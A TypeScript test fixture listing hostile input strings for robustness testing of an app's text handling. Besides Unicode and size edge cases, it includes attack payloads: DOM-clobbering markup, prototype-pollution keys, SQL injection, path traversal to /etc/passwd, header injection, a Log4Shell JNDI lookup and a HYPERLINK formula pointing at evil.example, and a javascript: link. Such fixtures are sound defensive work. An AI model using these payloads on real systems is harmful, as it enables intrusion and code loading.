// Words nobody honest writes: mark-up, names of the page, what covers or disturbs what stands beside it, what is no text at
// all. All made for these tests.
import { markup } from './hostile-markup.ts';

/** An id that must not become a global of the app. */
export const NAME = 'hostileGlobal';

const names = [
  `<a id=${NAME}></a><a id=${NAME} name=deep href=x></a>`,
  `<form name=${NAME}><input name=parentNode></form>`,
  `<img name=${NAME}><iframe name=${NAME}></iframe>`,
  `<p id=root>root</p><p id=app>app</p>`,
  `<form id=${NAME}><input name=attributes><input name=innerHTML></form>`,
  NAME,
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'then',
  'undefined',
  'null',
  'NaN',
  '[object Object]',
];

const letters = [
  '\u202egnp.exe\u202c',
  '\u2066\u2067\u2068 no way back',
  'photo\u202egpj.exe',
  '\u200f\u200eright \u061c left',
  'مرحبا 123 שלום',
  `z${'\u0300\u0301\u0302\u0303\u0308\u0330\u0331\u0489'.repeat(40)}algo`,
  '\ud800',
  'half \udc00 of a letter',
  '\udfff\ud800 turned round',
  '\u0000',
  'a\u0000b\u0007c\u001b[31md\u007fe\u0085f',
  '\ufeff\u200b\u200c\u200d\u2060',
  '\ufffe\uffff\ufdd0',
  '👩‍👩‍👧‍👦'.repeat(50),
  '🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}',
  '﷽'.repeat(30),
  'ﬁ ﬀ ½ Å Ⅷ',
  'İıſẞ',
  '\r\n\r\nSet-Cookie: a=b\r\n',
  '\u2028\u2029',
  'line\n'.repeat(500),
  '\t'.repeat(500),
  ' ',
  'a',
];

const shapes = [
  'x'.repeat(100_000),
  'words and words '.repeat(6250),
  '<b>'.repeat(5000),
  `${'<div>'.repeat(600)}deep${'</div>'.repeat(600)}`,
  `${'> '.repeat(300)}quoted`,
  '&'.repeat(20_000),
  '('.repeat(20_000),
  '"'.repeat(5000),
  'https://a.example/'.repeat(1000),
  '-1',
  '0',
  '1e309',
  '-0',
  '9007199254740993',
  '99999999999999999999999999',
  '0x1F',
  '2026-02-30T25:61:61Z',
  '-271821-04-19T23:59:59.999Z',
  '+275760-09-13T00:00:00.001Z',
  'Thu, 01 Jan 1970 00:00:00 GMT',
  '%s %d %n %x',
  '{0} {name} {count, plural, one {#} other {#}}',
  '<0>marked</0>',
  "' OR '1'='1",
  '../../etc/passwd',
  'CON',
  'a.b.c/../d?e#f',
  '${jndi:ldap://evil.example/a}',
  '=HYPERLINK("https://evil.example/","x")',
  '# heading\n* **bold** [link](javascript:top.hostileRan=1)',
];

/** Every payload once. */
export const payloads: readonly string[] = [...new Set([...markup, ...names, ...letters, ...shapes])];

/** What may stand where a text, a number or a record should, and is none. */
export const wrongValues: readonly unknown[] = [
  null,
  true,
  -1,
  0.5,
  2 ** 53 + 2,
  1e308,
  '',
  'x',
  '9007199254740993',
  '2026-02-30T25:61:61Z',
  [],
  {},
  [null],
  { __proto__: null, constructor: 1 },
];
